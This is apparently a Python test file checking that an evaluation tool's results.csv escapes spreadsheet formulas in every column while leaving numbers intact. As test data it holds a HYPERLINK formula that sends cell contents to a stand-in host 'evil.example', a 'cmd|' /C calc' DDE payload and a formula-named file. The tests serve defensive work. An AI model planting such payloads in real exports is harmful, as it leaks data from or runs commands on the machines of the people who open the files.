"""Issue 41: every text that reaches a cell of ``results.csv`` is neutralised against
spreadsheet formulas, whatever its column; numbers stay numbers. Before, a variant whose file
name was a formula reached the ``variant`` column as ``=HYPERLINK(...)``."""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from pathlib import Path

from evals.results import CSV_FILE_NAME, finish_run
from evals.results.store import FORMULA_STARTS, RunResult, csv_text, neutral_cell
from evals.scorers import Score
from memsys.llm.base import ModelKind
from tests.helpers.filesystem import REPO

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'


def _cells(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _hostile_result() -> RunResult:
    starts = iter(FORMULA_STARTS * 4)
    return RunResult(
        scenario=f"{next(starts)}scenario",
        model=f"{next(starts)}model",
        model_kind=ModelKind.SIMULATED,
        policy=f"{next(starts)}policy",
        variant=HOSTILE,
        repeat=1,
        run_dir="elsewhere",
        embedder=f"{next(starts)}embedder",
        scores=(
            Score(f"{next(starts)}recall", -0.5, f"{next(starts)}cmd|' /C calc'!A0"),
            Score("quality", 0.25, f"{next(starts)}SUM(1+1)", metrics={"delta": -3.0}),
            Score("noise", None, f"{next(starts)}unscored"),
        ),
    )


def test_every_column_of_results_csv_is_neutralised_and_numbers_stay(tmp_path: Path) -> None:
    finish_run(tmp_path, [_hostile_result()])
    path = tmp_path / CSV_FILE_NAME
    rows = _cells(path)
    assert len(rows) == 1
    header = next(csv.reader(path.open(encoding="utf-8")))
    for cell in header:
        assert not cell.startswith(FORMULA_STARTS), f"column name {cell!r}"
    for column, cell in rows[0].items():
        if cell.startswith(FORMULA_STARTS):
            assert _is_number(cell), f"{column}: {cell!r} would run as a formula"
    assert rows[0]["variant"] == "'" + HOSTILE
    assert rows[0]["'\trecall"] == "-0.5"  # a negative score is still a number
    assert rows[0]["quality.delta"] == "-3.0"


def test_neutral_cell_touches_text_only() -> None:
    assert neutral_cell("-1") == "'-1"  # text that looks like a number is still text
    assert neutral_cell(-1) == -1 and neutral_cell(-0.5) == -0.5 and neutral_cell(None) is None
    assert neutral_cell("plain") == "plain" and neutral_cell("a=b") == "a=b"
    assert csv_text([{"@a": "\rb", "c": -2}]) == '"\'@a","c"\n"\'\rb",-2\n'


def test_a_variant_named_as_a_formula_reaches_results_csv_as_text(tmp_path: Path) -> None:
    variant = tmp_path / "=1+2.toml"
    variant.write_text('extends = "v049-guardrails"\n')
    out = tmp_path / "out"
    done = subprocess.run(
        [
            *(sys.executable, "-m", "evals.cli.main", "run", "--no-real", "--no-report"),
            *("--scenario", "scenarios/assistant-correction.yaml"),
            *("--model", "sim/careful", "--policy", "guardrails"),
            *("--variant", str(variant), "--out", str(out)),
        ],
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": str(REPO), "MEMEVAL_NOW": "2026-03-02T14:30:00"},
        cwd=REPO,
        timeout=180,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    (row,) = _cells(out / CSV_FILE_NAME)
    assert row["variant"] == "'=1+2"
    for column, cell in row.items():
        assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), (column, cell)
